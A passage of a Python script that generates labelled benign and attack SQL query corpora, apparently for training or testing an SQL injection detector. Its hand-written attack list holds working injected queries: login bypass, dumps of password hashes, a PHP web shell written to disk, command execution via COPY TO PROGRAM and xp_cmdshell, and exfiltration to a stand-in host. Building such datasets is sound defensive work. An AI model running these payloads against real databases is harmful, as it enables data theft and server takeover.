    ("mp", "S", 0, "SELECT * FROM news WHERE slug = '{}' AND published = 1"),
    ("mp", "S", 0, "SELECT id FROM accounts WHERE username = '{}'"),
    ("mp", "S", 0, "SELECT * FROM products WHERE name LIKE '{}%' LIMIT 10"),
    ("mp", "S", 0, "SELECT title, body FROM posts WHERE author = '{}' ORDER BY id DESC"),
    ("p", "S", 0, 'SELECT "id", "email" FROM "users" WHERE "email" = \'{}\' AND "deleted_at" IS NULL'),
    ("m", "S", 0, "SELECT `id`, `email` FROM `users` WHERE `email` = '{}' AND `deleted_at` IS NULL"),
    ("m", "S", 0, "UPDATE users SET last_login = NOW() WHERE username = '{}'"),
    ("p", "S", 0, "UPDATE users SET last_login = now() WHERE username = '{}'"),
    ("mp", "S", 0, "UPDATE profiles SET bio = '{}' WHERE user_id = {n}"),
    ("mp", "S", 0, "DELETE FROM cart_items WHERE session_id = '{}'"),
    ("mp", "S", 1, "INSERT INTO comments (post_id, author, body) VALUES ({n}, 'guest', '{}')"),
    ("m", "S", 1, "INSERT INTO search_log (term, created_at) VALUES ('{}', NOW())"),
    ("p", "S", 1, "INSERT INTO search_log (term, created_at) VALUES ('{}', now())"),
    ("mp", "S", 1, "SELECT * FROM users WHERE (username = '{}') AND (deleted = 0)"),
    ("mp", "S", 1, "SELECT id FROM members WHERE (email = '{}')"),
    ("mp", "S", 1, "SELECT * FROM customers WHERE LOWER(name) = LOWER('{}')"),
    ("mp", "S", 1, "SELECT * FROM items WHERE id IN (SELECT item_id FROM item_tags WHERE tag = '{}')"),
    ("mp", "S", 1, "SELECT * FROM products WHERE (name LIKE '%{}%') ORDER BY name"),
    ("mp", "S", 2, "SELECT * FROM users WHERE ((username = '{}'))"),
    ("mp", "S", 2, "SELECT * FROM logs WHERE (level = 'error' AND (source = '{}')) ORDER BY id DESC"),
    ("mp", "S", 2, "SELECT * FROM files WHERE owner_id = {n} AND (LOWER(TRIM(path)) = LOWER(TRIM('{}')))"),
    ("m", "D", 0, 'SELECT * FROM users WHERE username = "{}" AND password = "{h}"'),
    ("m", "D", 0, 'SELECT * FROM products WHERE name = "{}"'),
    ("m", "D", 0, 'SELECT id FROM posts WHERE slug = "{}" LIMIT 1'),
    ("m", "D", 1, 'SELECT * FROM users WHERE (login = "{}")'),
    ("m", "D", 2, 'SELECT * FROM users WHERE ((login = "{}"))'),
    ("mp", "N", 0, "SELECT * FROM products WHERE id = {}"),
    ("mp", "N", 0, "SELECT name, price FROM products WHERE category_id = {} ORDER BY name"),
    ("mp", "N", 0, "SELECT * FROM articles WHERE id = {} AND published = 1"),
    ("mp", "N", 0, "SELECT title FROM news WHERE id = {} LIMIT 1"),
    ("mp", "N", 0, "UPDATE orders SET status = 'shipped' WHERE id = {}"),
    ("mp", "N", 0, "DELETE FROM cart WHERE item_id = {}"),
    ("mp", "N", 0, "SELECT * FROM users WHERE id = {}"),
    ("mp", "N", 0, "SELECT * FROM comments WHERE post_id = {} ORDER BY created_at"),
    ("mp", "N", 0, "SELECT * FROM photos WHERE album_id = {} AND owner_id = {n}"),
    ("p", "N", 0, 'SELECT "id", "title" FROM "posts" WHERE "author_id" = {} ORDER BY "id" DESC LIMIT 10'),
    ("m", "N", 0, "SELECT `id`, `title` FROM `posts` WHERE `author_id` = {} ORDER BY `id` DESC LIMIT 10"),
    ("mp", "N", 1, "SELECT * FROM products WHERE (id = {})"),
    ("mp", "N", 1, "SELECT * FROM users WHERE id IN ({})"),
    ("mp", "N", 1, "SELECT * FROM orders WHERE (user_id = {}) AND status = 'open'"),
    ("mp", "N", 2, "SELECT * FROM products WHERE ((id = {}))"),
    ("mp", "N", 2, "SELECT * FROM tickets WHERE (queue = 'support' AND (assignee_id = {}))"),
]

SAFE_PREFIX = re.compile(r"^[^'\"\s]{0,24}")


def app_decode(p):
    """What an application that decodes the value again passes on: up to
    three rounds of percent-decoding (%uXXXX too), '+' as space."""
    for _ in range(3):
        if not re.search(r"%(?:[0-9A-Fa-f]{2}|u00[0-9A-Fa-f]{2})", p):
            break
        p = re.sub(r"%u00([0-9A-Fa-f]{2})", lambda m: "%" + m.group(1), p)
        p = urllib.parse.unquote(p.replace("+", " "), encoding="latin-1")
    return p


def unglue(p):
    """The split-comment evasion (UN/**/ION, SE/**/LECT) works against
    applications that strip comments: the server sees UNION, SELECT. (A
    comment between two words, 1/**/UNION, is a space and stays.)"""
    return re.sub(r"(?i)\b(UN|SE)/\*\*/(ION|LECT)\b", r"\1\2", p)


def break_at(p, quote, backslash):
    """Index of the quote in @p that ends the literal the slot is in, or -1."""
    i = 0
    while i < len(p):
        c = p[i]
        if backslash and c == "\\":
            i += 2
            continue
        if c == quote:
            if i + 1 < len(p) and p[i + 1] == quote:
                i += 2
                continue
            return i
        i += 1
    return -1


def close_parens(s):
    n = 0
    for c in s:
        if c == ")":
            n += 1
        elif c not in " \t":
            break
    return n


def slot_of(p):
    """The slot a payload is written for: (kind, depth) or None."""
    pre = SAFE_PREFIX.match(p).group(0)
    rest = p[len(pre):]
    if rest.startswith("'"):
        return "S", close_parens(rest[1:])
    if rest.startswith('"'):
        return "D", close_parens(rest[1:])
    if p.count("'") % 2 or p.count('"') % 2:
        return None
    m = re.match(r"^-?\d+(?:\.\d+)?(?:e\d+)?", p)
    return "N", close_parens(p[m.end():]) if m else 0


def dialects(p, kind):
    mysql = bool(re.search(r"#|/\*!|@@|`|\bsleep\s*\(|benchmark|extractvalue|updatexml|load_file|outfile|dumpfile|"
                           r"\b0x[0-9a-f]|gtid_|\brlike\b|\bregexp\b|procedure\s+analyse|group_concat|&&|\bxor\b|"
                           r"\bmid\(|\bord\(|make_set|\belt\(|database\(\)|\buser\(\)|\bif\(|char\(", p, re.I))
    pg = bool(re.search(r"pg_|::|\$\$|current_database|string_agg|\bcopy\b|\bchr\(|\bE'|dblink|"
                        r"--[^\s\-]|--$", p, re.I))
    hard_m = kind == "D" or re.search(r"#|/\*!|'\s+'|'\|\|'\w*'\s*=", p)
    hard_p = re.search(r"--(?:[^\s]|$)", p)
    if hard_m and hard_p:
        return ""
    if hard_m:
        return "m"
    if hard_p:
        return "p"
    if mysql and not pg:
        return "m"
    if pg and not mysql:
        return "p"
    return "mp"


def render(tpl, p):
    s = tpl.replace("{h}", hexs(32)).replace("{n}", str(R.randint(1, 9999)))
    # a NUL ends the text for C-string APIs: the server sees the query up to it
    return s.replace("{}", p, 1).split("\0")[0]


def attacks():
    out, skipped = [], {}
    src = [l.rstrip("\n") for l in open(os.path.join(DATA, "sqli", "attack.txt"), encoding="utf-8")]
    for raw in src:
        p = unglue(app_decode(raw))
        if "\xa0" in p:  # a space only for MySQL with a latin1 connection
            skipped["latin1-nbsp"] = skipped.get("latin1-nbsp", 0) + 1
            continue
        s = slot_of(p)
        if not s:
            skipped["no-slot"] = skipped.get("no-slot", 0) + 1
            continue
        kind, depth = s
        ds = dialects(p, kind)
        if not ds:
            skipped["dialect-conflict"] = skipped.get("dialect-conflict", 0) + 1
            continue
        d = R.choice(ds)
        if kind in "SD" and break_at(p, "'" if kind == "S" else '"', d == "m") < 0:
            skipped["no-break"] = skipped.get("no-break", 0) + 1  # an escaped quote
            continue
        if kind == "N" and re.fullmatch(r"-?[\d.e]+", p):
            skipped["no-change"] = skipped.get("no-change", 0) + 1
            continue
        if "\0" in p and re.fullmatch(r"[^'\"]*['\"]?[\s)]*;?\s*", p.split("\0")[0]):
            skipped["nul-cut-only"] = skipped.get("nul-cut-only", 0) + 1
            continue  # only cuts the query short: what is left is the application's own
        cands = [t for t in TEMPLATES if d in t[0] and t[1] == kind and t[2] == min(depth, 2)]
        like = [t for t in cands if "LIKE '" in t[3]]
        if p.startswith("%") and like:  # a break written for a LIKE pattern
            cands = like
        else:
            cands = [t for t in cands if t not in like]
        out.append((d, "payload-" + kind, render(R.choice(cands)[3], p)))
    return out, skipped


HAND_ATTACKS = [
    ("m", "SELECT * FROM users WHERE name = '' OR '1'='1' AND pass = 'x'"),
    ("p", "SELECT * FROM users WHERE name = '' OR '1'='1' AND pass = 'x'"),
    ("m", "SELECT id FROM items WHERE id = 1 UNION SELECT table_name,2 FROM information_schema.tables"),
    ("p", "SELECT id FROM items WHERE id = 1 UNION SELECT table_name,2 FROM information_schema.tables"),
    ("m", "SELECT * FROM users WHERE user = 'admin'-- ' AND password = 'c4ca4238a0b923820dcc509a6f75849b'"),
    ("p", "SELECT * FROM users WHERE user = 'admin'-- ' AND password = 'c4ca4238a0b923820dcc509a6f75849b'"),
    ("m", "SELECT * FROM items WHERE id = 1; DROP TABLE users"),
    ("p", "SELECT * FROM items WHERE id = 1; DROP TABLE users"),
    ("m", "SELECT * FROM items WHERE id = 1 AND SLEEP(5)"),
    ("m", "SELECT * FROM items WHERE id = 1 AND extractvalue(1,concat(0x7e,version()))"),
    ("p", "SELECT * FROM items ORDER BY (SELECT pg_sleep(5))"),
    ("m", "SELECT * FROM items ORDER BY (SELECT SLEEP(5))"),
    ("m", "SELECT * FROM products ORDER BY name, (SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("p", "SELECT * FROM products ORDER BY (CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN name ELSE price END), pg_sleep(3)"),
    ("m", "SELECT * FROM products ORDER BY price LIMIT 10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,VERSION())),1)"),
    ("m", "SELECT * FROM products ORDER BY price LIMIT 10 UNION SELECT user,authentication_string FROM mysql.user"),
    ("p", "SELECT * FROM products ORDER BY price LIMIT 10 UNION SELECT usename, passwd FROM pg_shadow"),
    ("p", "SELECT * FROM items WHERE id = 1 AND CAST(version() AS int) = 1"),
    ("p", "SELECT * FROM items WHERE id = 1 AND 1=CAST((SELECT current_user) AS int)"),
    ("p", "SELECT * FROM items WHERE id = 1 AND version()::int = 1"),
    ("p", "SELECT * FROM items WHERE id = 1; COPY (SELECT '') TO PROGRAM 'curl http://x.example/$(whoami)'"),
    ("p", "SELECT * FROM items WHERE name = ''; CREATE TABLE cmd(o text); COPY cmd FROM PROGRAM 'id';--'"),
    ("m", "SELECT * FROM items WHERE name = '' UNION SELECT LOAD_FILE('/etc/passwd'),2-- '"),
    ("m", "SELECT * FROM items WHERE id = -1 UNION SELECT 1,'<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'"),
    ("m", "SELECT * FROM users WHERE name = 'x' /*!50000UNION*/ /*!50000SELECT*/ 1,2-- '"),
    ("m", "SELECT * FROM users WHERE id = 1 /*!UNION*/ SELECT user(),2"),
    ("m", "SELECT * FROM users WHERE id = 1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)"),
    ("m", "SELECT * FROM users WHERE id = 1 AND UPDATEXML(1,CONCAT(0x7e,(SELECT @@version)),1)"),
    ("m", "SELECT * FROM users WHERE id = 1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"),
    ("m", "SELECT * FROM users WHERE id = 1 AND EXP(~(SELECT * FROM (SELECT user())x))"),
    ("m", "SELECT * FROM users WHERE name = CHAR(97,100,109,105,110) OR 1=1"),
    ("m", "SELECT * FROM users WHERE name = 0x61646d696e AND 1=1 OR 2>1"),
    ("p", "SELECT * FROM users WHERE name = CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110) OR 1=1"),
    ("m", "SELECT * FROM users WHERE id = 1 OR 1=1"), ("p", "SELECT * FROM users WHERE id = 1 OR 1=1"),
    ("m", "SELECT * FROM users WHERE id = 1 || 1=1"), ("m", "SELECT * FROM users WHERE id = 1 OR 2>1"),
    ("p", "SELECT * FROM users WHERE id = 1 OR 'x' LIKE 'x'"), ("p", "SELECT * FROM users WHERE id = 1 OR TRUE"),
    ("m", "SELECT * FROM users WHERE id = 1 OR TRUE"), ("m", "SELECT * FROM users WHERE id = 1 XOR 1=1"),
    ("p", "SELECT * FROM users WHERE id = 1 OR NOT 1=2"), ("p", "SELECT * FROM users WHERE id = 1 OR 3 BETWEEN 1 AND 5"),
    ("p", "SELECT * FROM users WHERE id = 1 OR 1 IN (1,2,3)"), ("p", "SELECT * FROM users WHERE id = 1 OR 'a' IS NOT NULL"),
    ("p", "SELECT * FROM users WHERE name = 'x' OR 1::int=1::int -- '"),
    ("p", "SELECT * FROM users WHERE id = 1 AND ASCII(SUBSTRING(current_user,1,1))>64"),
    ("m", "SELECT * FROM users WHERE id = 1 AND ORD(MID(user(),1,1))>100"),
    ("m", "SELECT * FROM users WHERE id = 1 AND LENGTH(database())=4"),
    ("m", "SELECT * FROM users WHERE id = 1 AND SUBSTRING(@@version,1,1)='8'"),
    ("p", "SELECT * FROM users WHERE id = 1 AND SUBSTR((SELECT passwd FROM pg_shadow LIMIT 1),1,1)='m'"),
    ("m", "SELECT * FROM users WHERE id = 1; SELECT SLEEP(5)"), ("p", "SELECT * FROM users WHERE id = 1; SELECT pg_sleep(5)"),
    ("p", "SELECT * FROM users WHERE id = 1; SELECT usename, passwd FROM pg_shadow"),
    ("m", "SELECT * FROM users WHERE id = 1; GRANT ALL ON *.* TO 'evil'@'%'"),
    ("p", "SELECT * FROM users WHERE id = 1; ALTER ROLE app SUPERUSER"),
    ("m", "SELECT * FROM users WHERE id = 1; UPDATE users SET role = 'admin' WHERE id = 7"),
    ("p", "SELECT * FROM users WHERE name = ''; INSERT INTO admins (user_id) VALUES (7);--'"),
    ("m", "UPDATE users SET email = 'x' WHERE id = 1; DROP TABLE audit_log"),
    ("p", "DELETE FROM sessions WHERE token = ''; DROP TABLE sessions;--'"),
    ("m", "INSERT INTO comments (post_id, body) VALUES (1, ''), (1, (SELECT password FROM users WHERE id=1))-- ')"),
    ("p", "INSERT INTO comments (post_id, body) VALUES (1, '' || (SELECT passwd FROM pg_shadow LIMIT 1) || '')"),
    ("m", "UPDATE users SET bio = '' WHERE id = 5 OR 1=1-- ' WHERE id = 5"),
    ("m", "SELECT * FROM users WHERE id = 1 AND (SELECT 4523 FROM (SELECT(SLEEP(5)))abc)"),
    ("m", "SELECT * FROM users WHERE id = 1 AND BENCHMARK(5000000,MD5(1))"),
    ("m", "SELECT * FROM users WHERE id = 1 RLIKE (SELECT (CASE WHEN (1=1) THEN SLEEP(5) ELSE 0x28 END))"),
    ("p", "SELECT * FROM users WHERE id = 1 AND (SELECT 1 FROM pg_sleep(5)) IS NULL"),
    ("p", "SELECT * FROM users WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep_for('5 seconds'))"),
    ("m", "SELECT * FROM users WHERE id = 1; WAITFOR DELAY '0:0:5'"),
    ("m", "SELECT * FROM users WHERE id = 1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)"),
    ("p", "SELECT * FROM users WHERE id = -1 UNION SELECT NULL,NULL,NULL"),
    ("m", "SELECT * FROM users WHERE id = -1 UNION ALL SELECT 1,2,3,4"),
    ("m", "SELECT * FROM users WHERE id = -1 UNION SELECT 1,@@version,3"),
    ("p", "SELECT * FROM users WHERE id = -1 UNION SELECT 1,current_database(),3"),
    ("p", "SELECT * FROM users WHERE id = -1 UNION SELECT 1,string_agg(tablename,','),3 FROM pg_tables"),
    ("m", "SELECT * FROM users WHERE id = -1 UNION SELECT 1,group_concat(schema_name),3 FROM information_schema.schemata"),
    ("m", "SELECT * FROM users WHERE id = -1 UNION SELECT name,sql FROM sqlite_master"),
    ("p", "SELECT * FROM users WHERE id = -1 UNION SELECT username,password FROM users"),
    ("m", "SELECT * FROM users WHERE name = 'admin'#' AND password = 'x'"),
    ("m", "SELECT * FROM users WHERE name = 'admin'/*' AND password = 'x'"),
    ("p", "SELECT * FROM users WHERE name = 'admin'--' AND password = 'x'"),
    ("m", "SELECT * FROM users WHERE name = \"admin\"-- \" AND password = \"x\""),
    ("m", "SELECT * FROM users WHERE id = 1 AND 2>1"), ("p", "SELECT * FROM users WHERE id = 1 AND 'a'='a'"),
    ("m", "SELECT * FROM users WHERE id = 1 AND 3*2=6"), ("p", "SELECT * FROM users WHERE id = 1 AND 5 BETWEEN 1 AND 10"),
    ("m", "SELECT * FROM users WHERE id = 1 HAVING 1=1"), ("m", "SELECT * FROM users WHERE id = 1 PROCEDURE ANALYSE()"),
    ("m", "SELECT * FROM users WHERE id = 1 AND 1=(SELECT 1 FROM dual WHERE 1=1) OR 1=1"),
    ("p", "SELECT * FROM users WHERE id = 1; SELECT dblink_connect('host=x.example user=a password=b dbname=c')"),
    ("p", "SELECT * FROM users WHERE id = 1 AND (SELECT pg_read_file('/etc/passwd')) IS NOT NULL"),
    ("m", "SELECT * FROM users WHERE id = 1; EXEC xp_cmdshell 'whoami'"),
    ("m", "SELECT * FROM users WHERE id = 1 AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.x.example\\\\a')))"),
    ("p", "SELECT * FROM users WHERE name = '' OR ''=''"),
    ("m", "SELECT * FROM users WHERE name = 'x' AND 1=0 UNION SELECT 1,2,3 -- '"),
]


def esc_line(s):
    return s.replace("\\", "\\\\").replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t")


def write(path, rows):
    seen = set()
    n = 0
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for d, tag, s in rows:
            if (d, s) in seen:
                continue
            seen.add((d, s))
            if any(c in s for c in "\n\r\t"):
                f.write("%s\t%s\t%s\n" % (d.upper(), tag, esc_line(s)))
            else:
                f.write("%s\t%s\t%s\n" % (d, tag, s))
            n += 1
    return n


def main():
    att, skipped = attacks()
    att += [(d, "hand-written", s) for d, s in HAND_ATTACKS]
    payloads = [app_decode(l.rstrip("\n")) for l in open(os.path.join(DATA, "sqli", "attack.txt"), encoding="utf-8")]
    payloads = [p for p in payloads if "\0" not in p]
    ben = benign(payloads)
    nb = write(os.path.join(OUT, "benign.txt"), ben)
    na = write(os.path.join(OUT, "attack.txt"), att)
    sys.stderr.write("benign %d, attack %d, payloads left out: %s\n" % (nb, na, skipped))


if __name__ == "__main__":
    main()
